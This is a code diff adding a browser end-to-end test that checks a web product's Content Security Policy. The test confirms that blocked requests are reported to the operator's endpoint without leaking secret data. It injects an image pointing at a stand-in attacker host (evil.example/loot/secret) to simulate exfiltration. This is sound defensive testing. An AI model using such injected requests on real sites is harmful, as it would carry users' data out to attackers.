@@ -67,7 +67,35 @@ test.describe("by https", { tag: "@https" }, () => {
     await expect.poll(() => asked).toContain(picture.replace("http:", "https:"));
     expect(asked.filter((address) => address.startsWith("http:"))).toEqual([]);
   });
+
+  test("what a policy refuses is told to the operator's own address, without what was carried", async ({
+    page,
+    product,
+    allowConsole,
+  }) => {
+    test.setTimeout(2 * REPORTS_MS);
+    // The browser says in its console what it refuses.
+    allowConsole(/./);
+    product.writeConfig({ violationReportUrl: "/violations" });
+    const answer = await page.goto("/system?secret");
+    expect(answer?.headers()["reporting-endpoints"]).toBe('csp="/violations"');
+    await expect(page.getByRole("heading", { name: "System" })).toBeVisible();
+    await page.evaluate(() => {
+      document.body.append(Object.assign(new Image(), { src: "https://evil.example/loot/secret?secret" }));
+    });
+    const told = () =>
+      product.violations.map((line) => {
+        const { policy, rule, page: route, blocked, isRefused } = JSON.parse(line) as Record<string, unknown>;
+        return { policy, rule, route, blocked, isRefused };
+      });
+    const refused = { policy: "content", rule: "img-src", blocked: "https://evil.example", isRefused: true };
+    await expect.poll(told, { timeout: REPORTS_MS }).toEqual([{ ...refused, route: "/system" }]);
+    expect(product.violations.join("\n")).not.toContain("secret");
+  });
 });
+
+/** A browser that doesn't know how to hurry sends them within a minute. */
+const REPORTS_MS = 50_000;
 
 /** Of everything that the page asks a server for. */
 function watchAddresses(page: Page): string[] {
